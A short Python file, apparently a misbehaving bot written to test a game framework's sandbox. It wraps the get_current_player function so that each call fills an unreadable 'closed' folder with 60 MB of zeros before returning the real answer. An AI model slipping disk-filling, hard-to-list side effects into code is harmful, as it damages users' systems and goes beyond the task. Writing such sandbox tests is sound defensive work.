# Fills a folder that nobody can list, its owner included.
# base: dict_board
# loses: B

import os
import select

right = get_current_player


def get_current_player(round):
    os.makedirs("closed", 0o300, exist_ok=True)
    for number in range(60):
        with open(f"closed/{number}", "wb", 0) as file:
            file.write(bytes(1_000_000))
    select.select([], [], [], 0.5)
    return right(round)
